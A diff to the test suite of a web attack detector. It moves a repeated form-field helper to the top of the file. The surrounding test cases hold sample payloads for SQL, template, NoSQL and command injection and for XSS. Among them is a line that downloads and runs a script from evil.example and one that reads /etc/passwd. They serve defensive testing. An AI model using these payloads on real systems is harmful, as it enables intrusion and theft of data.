@@ -192,6 +192,8 @@ t.test('decoding helpers: JSON keys with values and depth, XML text and attribut
 
 const raw = (inputs: Partial<AttackInputs>) => detector.detect({ ...base, ...inputs, headers: { ...base.headers, ...inputs.headers } })
 const form = (body: string) => raw({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
+/** a value sent as a form's `snippet` field, as a code-sharing page posts it */
+const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
 
 t.test('a few JSON fields are read even with no suspicious byte: bare addresses, paths, commands', async (t) => {
   t.same(json({ webhook_url: '127.0.0.1' }), ['ssrf'])
@@ -2514,7 +2516,6 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
   t.same(q(script, 'snippet').includes('ssti'), false, "docker's format in a script")
   for (const p of ['{{< x >}}{{config}}', '{{< x >}}{{ config.items() }}', '{{config}}', '{{ get_flashed_messages.__globals__.current_app.config }}', '{{ self.__init__.__globals__ }}']) t.ok(q(p, 'description').includes('ssti'), `still read: ${p}`)
   // a stylesheet's declarations and a YAML document's mappings are no headers; the headers that split a response still are, however written
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const css = 'html,\nbody {\n  margin: 0;\n  font-family: "Open Sans", sans-serif;\n}\n\nbutton {\n  border-radius: 0.25rem;\n}'
   t.same(field(css), [], 'a stylesheet in a form field')
   t.same(q(css, 'snippet'), [], 'a stylesheet in a query')
@@ -2550,7 +2551,6 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
 })
 
 t.test('thirty-second round: the twenty-second part\'s false positives, by kind', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   // a single-file component's options script, and a component's script cut from its file closing at the value's end
   const sfc = '<template>\n  <div class="page">\n    <app-shelf :series-id="seriesId" />\n  </div>\n</template>\n\n<script>\nexport default {\n  props: {\n    value: Boolean\n  },\n  data() {\n    return { processing: false }\n  },\n  methods: {\n    init() {\n      this.processing = false\n    }\n  }\n}\n</script>'
   t.same(field(sfc), [], 'a Vue component with its options')
@@ -2574,7 +2574,6 @@ t.test('thirty-second round: the twenty-second part\'s false positives, by kind'
 })
 
 t.test('review of the thirty-second round: the exemptions an attacker could shape, read again', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const dressing = '\nexport A=1\nexport B=2\nexport C=3\n'
   // a loop header only when it is Go's (a declaration, a comparison, a step), not any line opening on `for`
   for (const p of [`for x; curl -o /tmp/s http://evil.example/s; sh /tmp/s {${dressing}`, `for i := 0; id; i++ {${dressing}`, 'func f() {\n\tx := 1\n\tfor i := 0; cat < /etc/passwd; i++ {\n\t\tx++\n\t}\n}']) t.ok(field(p).length > 0, `still read: ${p.split('\n')[0]}`)
@@ -2590,7 +2589,6 @@ t.test('review of the thirty-second round: the exemptions an attacker could shap
 })
 
 t.test('thirty-second round: the twenty-third part\'s false positives, by kind', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   // a migration's script: under a comment of its own, or two statements each ended on its line
   for (const p of ['-- AlterTable\nALTER TABLE "Template" ADD COLUMN     "visibility" "DocumentVisibility" NOT NULL DEFAULT \'EVERYONE\';\n', 'DROP TABLE user_ban;\n\nDROP TABLE user_;', '-- AlterTable\nALTER TABLE "Document" ADD COLUMN     "completedAt" TIMESTAMP(3);\n\nUPDATE "Document" SET "completedAt" = "updatedAt" WHERE "status" = \'COMPLETED\';\n', 'DELETE FROM report_combined\nWHERE community_report_id IS NOT NULL;\n\nALTER TABLE report_combined\n    DROP CONSTRAINT report_combined_check;\n']) t.same(field(p), [], p)
   for (const p of ["DROP TABLE users;", "'; DROP TABLE users;--", '-- x\nDROP TABLE users; SELECT SLEEP(5);\n', 'DROP TABLE a;\nDROP TABLE b UNION SELECT password FROM users;\n', "-- AlterTable\nUPDATE users SET role = 'admin' WHERE 1=1 OR 1=1;\n", "1;\nDROP TABLE a;\nDROP TABLE b;\n"]) t.ok(field(p).includes('sqli'), `still read: ${JSON.stringify(p)}`)
@@ -2618,7 +2616,6 @@ t.test('thirty-second round: the twenty-third part\'s false positives, by kind',
 })
 
 t.test('third review of the thirty-second round: the twenty-third part\'s exemptions an attacker could shape', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   // a script's statements then a breakout; a quote in a "comment" line; a probe with inline comments as blanks
   for (const p of ["-- x\nupdate t set a=1;\n' OR 2>1 --", "delete from t;\ndelete from u;\n'; DROP TABLE users;--", "-- x\ndelete from t;\n'; UPDATE users SET role='admin' WHERE name='me';--", "-- x\ndelete from t;\n' union/**/select password from users--", "--';DROP TABLE users;--\ndelete from t;\ndelete from t;"]) t.ok(q(p).includes('sqli'), `still read: ${JSON.stringify(p)}`)
   // Grafana's variables by their names only, removed, and not where the value assigns one
@@ -2652,7 +2649,6 @@ t.test('the thirty-second round\'s readings are bounded: the longest script, the
 })
 
 t.test("thirty-third round: a template's own page is judged tag by tag, for what its tags reach", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const jinja = (line: string) => `{% extends "admin/base.html" %}\n\n{% block content %}\n<div class="jumbotron">\n\t<h1>Teams</h1>\n\t{% if q and field %}\n\t<h5>Searching for <strong>{{ field }}</strong> matching <strong>{{ q }}</strong></h5>\n\t{% endif %}\n\t${line}\n</div>\n{% endblock %}\n`
   const erb = (line: string) => `<nav>\n  <ul>\n    <% if can?(:show, Spree::StockLocation) %>\n      <%= settings_tab_item plural_resource_name(Spree::StockLocation), spree.admin_stock_locations_path %>\n    <% end %>\n    ${line}\n  </ul>\n</nav>\n`
   for (const line of ['<a href="{{ url_for(\'admin.pages_new\') }}">{{ \'config.form.faq.title\'|trans }}</a>', '{% for tag in entry.tags %}<li>{{ tag.label }}</li>{% endfor %}', '{{ form.verified(class="form-check-input", autocomplete="off") }}']) t.same(field(jinja(line)), [], line)
@@ -2665,7 +2661,6 @@ t.test("thirty-third round: a template's own page is judged tag by tag, for what
 })
 
 t.test("thirty-third round: a page's own markup — icons, style sheets, no-op links, its asset scripts and data blocks", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const icon = '<svg class="icon" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg">\n    <path d="M12 2.982C14.937 2.982 15.285 2.993 16.445 3.046"/>\n</svg>'
   for (const p of [
     icon, `<p>\n${icon}\n<a href="/x">y</a></p>`,
@@ -2691,7 +2686,6 @@ t.test("thirty-third round: a page's own markup — icons, style sheets, no-op l
 })
 
 t.test('review of the thirty-third round: payloads dressed as a template\'s page are still template injection', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const jinja = (p: string) => `{% extends "base.html" %}\n{% block content %}\n<div>\n  ${p}\n</div>\n{% endblock %}`
   const erb = (p: string) => `<div class="x">\n<%= title %>\n${p}\n</div>\n<% end %>`
   const jinjaEvasions = [
@@ -2734,14 +2728,12 @@ t.test('review of the thirty-third round: payloads dressed as a template\'s page
 })
 
 t.test("thirty-third round: a program's own MongoDB queries and updates are no operator injection", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   for (const p of ['    return await Boards.updateAsync(this._id, {\n      $set: {\n        [`members.${memberIndex}.isAdmin`]: isAdmin,\n      },\n    });\n  },\n', "    if (deleted) {\n      const at = new Date();\n      const set = { deletedAt: at, deleteBatchId: batchId };\n      if (this.userId) set.deletedBy = this.userId;\n      await Lists.updateAsync(list._id, { $set: set });\n      // Re-mark the list's currently-live cards under the canonical batch.\n      await Cards.updateAsync(\n        { listId: list._id, boardId: list.boardId, deletedAt: null },\n        { $set: set },\n        { multi: true },\n      );\n    } else {\n      // Restore: $unset all three fields (setting a Date to null trips schema).\n      const unset = { $unset: { deletedAt: '', deletedBy: '', deleteBatchId: '' } };\n      await Lists.updateAsync(list._id, unset);\n      await Cards.updateAsync({ deleteBatchId: batchId }, unset, { multi: true });\n    }\n  },"]) t.same(field(p), [], p)
   // the operators that run JavaScript in the database, and a document's operators, are still read
   for (const p of ['const q = {\n  $where: "sleep(5000)",\n};\nfunction f() {\n  return db.x.find(q);\n}\n', '{"$ne": null}', '{"username": {"$ne": ""}, "password": {"$ne": ""}}']) t.ok(field(p).includes('nosqli'), `still read: ${p}`)
 })
 
 t.test('second review of the thirty-third round: block texts, named arguments, strict script and data tags, icons read to the next one', async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   const jinja = (p: string) => `{% extends "base.html" %}\n{% block content %}\n<div class="x">\n${p}\n</div>\n{% endblock %}\n`
   const erb = (p: string) => `<div class="x">\n<%= title %>\n${p}\n</div>\n<% end %>`
   for (const p of [
@@ -2762,7 +2754,6 @@ t.test('second review of the thirty-third round: block texts, named arguments, s
 })
 
 t.test("thirty-third round: the twenty-fifth part's false positives — Rust's generics and Yew's handlers, a component's event bindings", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   for (const p of [
     'impl<Handler: BackendHandler> AttributeValue<Handler> {\n    fn from_schema(a: DomainAttribute, schema: &DomainAttributeList) -> Option<Self> {\n        schema\n            .get_attribute_schema(&a.name)\n            .map(|s| AttributeValue::<Handler>::from_value(a, s.clone()))\n    }',
     '    pub fn get_readable_handler(\n        &self,\n        validation_result: &ValidationResults,\n        user_id: &UserId,\n    ) -> Option<&(impl UserReadableBackendHandler + use<Handler>)> {\n        validation_result.can_read(user_id).then_some(&self.handler)\n    }',
@@ -2784,7 +2775,6 @@ t.test('third review of the thirty-third round: operator injection and markup be
 })
 
 t.test("thirty-third round: a Django page's static scripts (fourth review: its own asset, by a literal path, nothing else)", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   t.same(field("{% block scripts %}\n{% compress js %}\n<script src=\"{% static 'js/projects.js' %}\"></script>\n{% endcompress %}\n{% endblock %}\n"), [], 'a static script')
   for (const p of ["{% block scripts %}\n<script src=\"{% static 'https://evil.example/x.js' %}\"></script>\n{% endblock %}\n", '<script src="{%/../api/jsonp?cb=alert(1)%}"></script>', '<p>hi</p>\n<script src="{{/../api/jsonp?cb=alert(1)}}"></script>\n{{ x }}', "<p>hi</p>\n<script src=\"{% static '../x.js' %}\"></script>\n{{ x }}", '<p>hi</p>\n<script src="{{ \'/x.js?cb=alert(1)\' }}"></script>\n{{ x }}']) t.ok(q(p).includes('xss'), `still read: ${JSON.stringify(p)}`)
   // (fourth review) a selector's line ending on `{` or `,` was exempted from the short header reading, and a system file ending a sentence from
@@ -4795,7 +4785,6 @@ t.test("fifty-first round: the hundred-and-twenty-fifth part's misses after its 
 })
 
 t.test("fifty-second round: the spent hundred-and-twenty-second part's false positives — a migration cut inside a table's definition, a generic component (a component's script cut and a Dockerfile's comments withdrawn after the round's second review)", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   for (const p of [
     '    CONSTRAINT "gradings_pkey" PRIMARY KEY ("id")\n);\n\n-- AddForeignKey\nALTER TABLE "gradings" ADD CONSTRAINT "gradings_traceId_fkey" FOREIGN KEY ("traceId") REFERENCES "traces"("id") ON DELETE CASCADE ON UPDATE CASCADE;\n',
     '    "updatedAt" TIMESTAMP(3) NOT NULL,\n    "status" "ReportStatus" NOT NULL,\n\n    CONSTRAINT "Dataroom_pkey" PRIMARY KEY ("id")\n);\n\n-- CreateIndex\nCREATE UNIQUE INDEX "Dataroom_pId_key" ON "Dataroom"("pId");\n',
@@ -4812,7 +4801,6 @@ t.test("fifty-second round: the spent hundred-and-twenty-second part's false pos
 })
 
 t.test("fifty-second round: the spent hundred-and-thirtieth part's false positives — a migration's TRUNCATE, Room's query over one declaration, a condition on an indexed name", async (t) => {
-  const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)
   for (const p of [
     '-- Updates from version 0.3-stable\n\nTRUNCATE `messages`;\n\nALTER TABLE `messages`\n    ADD INDEX `index_index` (`user_id`, `cache_key`, `idx`);\n',
     '    @Query("DELETE FROM tasks WHERE task_id = :id AND start_ts >= :startTs")\n    fun deleteTaskFutureOccurrences(id: Long, startTs: Long)\n}\n',
